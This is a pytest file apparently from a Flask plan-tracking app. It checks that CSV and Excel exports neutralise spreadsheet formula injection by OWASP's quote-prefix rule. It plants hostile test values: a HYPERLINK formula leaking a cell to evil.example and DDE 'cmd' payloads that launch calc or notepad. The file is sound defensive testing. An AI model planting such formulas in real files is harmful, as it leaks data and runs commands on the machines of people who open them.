"""Formula injection: text from imported plans and posted reports must reach an auditor's
spreadsheet as text, never as a formula Excel or LibreOffice would run on opening the file.

The CSV downloads prefix a single quote to a text cell that starts with a formula character
(OWASP's rule); numbers and dates the exporter writes stay numbers, unprefixed. The workbook
writes every text through write_string, so a formula-looking text is a string cell there.
"""

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from flask_babel import force_locale
from sqlalchemy import select

from tests import test_dashboard as dash
from tracker.dashboard.queries import Filters
from tracker.executors.models import Body
from tracker.export.tables import TABLE_KEYS, one_table
from tracker.extensions import db
from tracker.plans.models import Plan, Section
from tracker.reports.models import Evidence

seeds = dash.seeds
scenario = dash.scenario
AS_OF = dash.AS_OF

#: OWASP's formula characters, and their full-width forms (an oracle of its own, not the code's list)
TRIGGERS = set("=+-@\t\r\n\0") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+7 701 000 00 00", "'+7 701 000 00 00"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # text that looks like a negative number is still text from a plan
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width = + - @
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(1)", "'\uff20SUM(1)"),
    ("  =1+1", "'  =1+1"),  # spaces in front do not hide it
    (HYPERLINK, "'" + HYPERLINK),
    ("Білім басқармасы", "Білім басқармасы"),
    ("a = b + c", "a = b + c"),
    ("2.5", "2.5"),
    ("'quoted", "'quoted"),
    ("", ""),
    ("   ", "   "),
    (None, ""),
    (-5, -5),  # numbers the exporter writes are numbers, negative ones too
    (-0.25, -0.25),
    (0, 0),
    (Decimal("-12.50"), Decimal("-12.50")),
    (date(2026, 11, 23), "2026-11-23"),
    (datetime(2026, 11, 23, 9, 30), "2026-11-23T09:30:00"),
])
def test_a_cell_is_neutralised_by_owasps_rule(value, written):
    from tracker.export.csvfile import csv_cell

    assert csv_cell(value) == written
    assert type(csv_cell(value)) is type(written)


def test_every_trigger_is_covered():
    from tracker.export.csvfile import FORMULA_TRIGGERS

    assert TRIGGERS <= FORMULA_TRIGGERS


def _plant_formulas(scenario) -> dict[str, str]:
    """Formula-looking text in every kind of imported or posted text a table shows."""
    kostanay = scenario.plans["kostanay"]
    activity = scenario.done.obligation.activity  # it has due dates, reports and evidence
    assert activity.plan_id == kostanay
    planted = {
        "activity": HYPERLINK,
        "completion_form": "@SUM(1+1)*cmd|' /C calc'!A0",
        "deadline": "+7 (701) 000",
        "funding": "-2+3",
        "plan": "\uff1dHYPERLINK(\"http://evil.example\")",
        "section": "-1. ",
        "body": "\r=cmd|' /C notepad'!A0",
        "file": "-2+3.pdf",
    }
    activity.text = planted["activity"]
    activity.completion_form = planted["completion_form"]
    activity.deadline_text = planted["deadline"]
    activity.funding_text = planted["funding"]
    activity.funding_amount_kzt = -5  # a negative number: a number, not text
    db.session.get(Plan, kostanay).title = planted["plan"]
    section = db.session.get(Section, activity.section_id)
    section.number = "-1"  # the cell reads "-1. <title>"
    db.session.get(Body, scenario.done.lead_body.id).name = planted["body"]
    evidence = db.session.scalars(select(Evidence).order_by(Evidence.id)).first()
    evidence.original_name = planted["file"]
    db.session.commit()
    return planted


def _columns(key: str):
    with force_locale("kk"):
        return one_table(key, AS_OF, Filters(), "http://x/").columns


def _csv(client, key: str, **args) -> list[list[str]]:
    response = client.get(f"/export/{key}.csv", query_string={"as_of": AS_OF.isoformat(), **args})
    assert response.status_code == 200, (key, response.get_data(as_text=True)[:300])
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def test_csv_downloads_neutralise_formulas(app, scenario, client, login):
    login("auditor")
    planted = _plant_formulas(scenario)
    found = set()
    numeric = {"int", "money", "percent"}
    for key in TABLE_KEYS:
        kinds = [c.kind for c in _columns(key)]
        rows = _csv(client, key)
        for line in rows[1:]:
            for text, kind in zip(line, kinds, strict=True):
                if not text:
                    continue
                if kind in numeric:
                    float(text)  # a number, written as one
                    assert not text.startswith("'"), (key, text)
                    continue
                # no text cell starts with a formula character, spaces in front or not
                assert text.lstrip(" ")[0] not in TRIGGERS, (key, text)
                for name, value in planted.items():
                    if text == "'" + value or text.startswith("'" + value):
                        found.add(name)
    assert found == set(planted), set(planted) - found
    # the negative amount stayed a plain number
    keys = [c.key for c in _columns("activities")]
    row = next(r for r in _csv(client, "activities")[1:] if r[keys.index("activity")] == "'" + HYPERLINK)
    assert row[keys.index("amount")] == "-5"


def test_workbook_keeps_formulas_as_text(app, scenario, client, login, runner, tmp_path):
    login("auditor")
    planted = _plant_formulas(scenario)
    with client.get("/export/workbook.xlsx", query_string={"as_of": AS_OF.isoformat()}) as response:
        assert response.status_code == 200
        data = response.get_data()
    out = tmp_path / "cli.xlsx"
    result = runner.invoke(args=["export", "xlsx", str(out), "--as-of", AS_OF.isoformat()])
    assert result.exit_code == 0, result.output
    for raw in (data, out.read_bytes()):
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets
            for name in sheets:
                assert b"<f>" not in archive.read(name), name  # not one formula in the whole workbook
        book = openpyxl.load_workbook(io.BytesIO(raw))
        found = {}
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    for name, value in planted.items():
                        # xlsxwriter stores a carriage return as OOXML's _x000D_, which openpyxl leaves as it is
                        if isinstance(cell.value, str) and cell.value.startswith(value.replace("\r", "_x000D_")):
                            found[name] = cell
        assert set(found) == set(planted)
        # the exact text, a string cell, no quote added (the xlsx needs none)
        assert found["activity"].value == HYPERLINK and found["activity"].data_type == "s"
        assert all(cell.data_type == "s" for cell in found.values())
